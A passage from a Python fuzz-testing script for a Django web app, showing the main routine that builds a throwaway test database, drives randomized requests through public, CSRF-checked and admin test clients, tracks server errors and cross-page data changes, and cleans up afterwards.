        default=os.environ.get("DATABASE_URL", DEFAULT_DATABASE_URL),
    )
    parser.add_argument(
        "--show", type=int, default=8, help="examples shown per kind of failure"
    )
    args = parser.parse_args()

    database_url = choose_database(args.database_url)
    media_root = tempfile.mkdtemp(prefix="selvhjelp_fuzz_media_")
    os.environ["DATABASE_URL"] = database_url
    os.environ["FUZZ_MEDIA_ROOT"] = media_root
    os.environ["DJANGO_SETTINGS_MODULE"] = SETTINGS_MODULE

    import django

    django.setup()
    from django.core import mail
    from django.db import connection
    from django.test import Client
    from django.utils import timezone

    started = time.monotonic()
    connection.creation.create_test_db(
        verbosity=0, autoclobber=True, serialize=False, keepdb=False
    )
    database = f"{connection.vendor} {connection.settings_dict['NAME']}"
    try:
        rng = random.Random(args.seed)
        state = build(rng)
        b_before = snapshot_b(state)
        clients = {
            "public": Client(raise_request_exception=False),
            "csrf": Client(raise_request_exception=False, enforce_csrf_checks=True),
            "admin": Client(raise_request_exception=False),
        }
        clients["admin"].force_login(state["user"])
        campaign = Campaign(rng, state)
        uncovered = [name for name in package_urls() if name not in COVERED]
        budget = {target: round(args.posts * share) for target, share in SHARES.items()}
        budget["admin"] += args.posts - sum(budget.values())
        this_year = timezone.localdate().year
        admin_names = list(ADMIN_WEIGHTS)
        admin_weights = [ADMIN_WEIGHTS[name] for name in admin_names]
        print(
            f"{database}; fuzzing {args.posts} cases "
            f"({', '.join(f'{k} {v}' for k, v in budget.items())}), seed {args.seed}",
            flush=True,
        )
        campaign_start = time.monotonic()
        done = 0
        number = 0
        while any(budget.values()):
            targets = [t for t, left in budget.items() if left]
            target = rng.choices(targets, weights=[budget[t] for t in targets])[0]
            budget[target] -= 1
            number += 1
            if target == "public form":
                public_case(rng, state, campaign, clients, number, this_year)
            elif target == "self-service":
                self_service_case(rng, state, campaign, clients)
            elif target == "public pages":
                public_pages_case(rng, state, campaign, clients)
            else:
                name = rng.choices(admin_names, weights=admin_weights)[0]
                admin_case(rng, state, campaign, clients, name)
            done += 1
            if hasattr(mail, "outbox"):
                mail.outbox.clear()
            if done % 1000 == 0:
                print(
                    f"  {done} cases, {campaign.requests} requests, "
                    f"{len(campaign.server_errors)} 5xx, "
                    f"{sum(len(v) for v in campaign.failures.values())} other "
                    f"failures, {time.monotonic() - campaign_start:.0f} s",
                    flush=True,
                )
        post_probes(rng, state, campaign, clients, this_year)
        final_sweep(state, campaign, clients)
        b_changed = snapshot_b(state) != b_before
        if b_changed:
            campaign.fail("other page changed", "admin", "page B's data changed")
        failed = print_report(
            campaign,
            time.monotonic() - campaign_start,
            database,
            args,
            uncovered,
            b_changed,
        )
    finally:
        connection.creation.destroy_test_db(
            connection.settings_dict["NAME"], verbosity=0, keepdb=False
        )
        shutil.rmtree(media_root, ignore_errors=True)
    print(f"total time {time.monotonic() - started:.0f} s")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
